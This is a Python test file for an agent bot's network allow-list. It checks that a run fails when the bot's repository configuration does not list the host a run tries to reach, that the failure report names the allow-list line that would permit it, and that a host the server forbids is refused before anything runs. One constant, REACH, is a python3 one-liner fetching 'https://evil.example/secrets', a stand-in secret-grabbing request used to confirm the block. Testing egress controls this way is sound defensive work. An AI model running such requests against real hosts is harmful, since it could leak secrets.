"""What a run may reach: chosen by its repository, allowed by the server, and what was in the way is told."""

from __future__ import annotations

import pytest

from bot.runs import RunState
from tests.stories.conftest import StrictStage

pytestmark = [pytest.mark.docker, pytest.mark.redis, pytest.mark.slow]

REACH = "python3 -c \"import urllib.request as r; r.urlopen('https://evil.example/secrets')\""


def test_a_host_that_was_in_the_way_is_in_the_report(strict_stage: StrictStage) -> None:
    """The step fails as it would without a network, and the check run says which line would allow it."""
    world = strict_stage.world()
    world.configures('network: {allow: [registry.example, "*.cdn.example"]}\n')
    world.comments(f"/agent run `{REACH}`")

    run = world.run_ends()

    assert run.state is RunState.FAILED
    assert run.notes == (
        "`evil.example` was not reached: it is not allowed. "
        '`network: {allow: [registry.example, "*.cdn.example", evil.example]}` would allow it.',
    )
    assert run.notes[0] in world.check(run)["output"]["summary"]


def test_a_host_that_the_server_does_not_allow_is_refused_before_anything_runs(
    strict_stage: StrictStage,
) -> None:
    """The answer names the key, the host and what may be chosen."""
    world = strict_stage.world()
    world.configures("network: {allow: [packages.example.org]}\n")
    world.comments("/agent run `true`")

    assert "`network.allow` names `packages.example.org`, which this server does not allow" in world.answers()
    assert world.ledger.runs.open() == ()
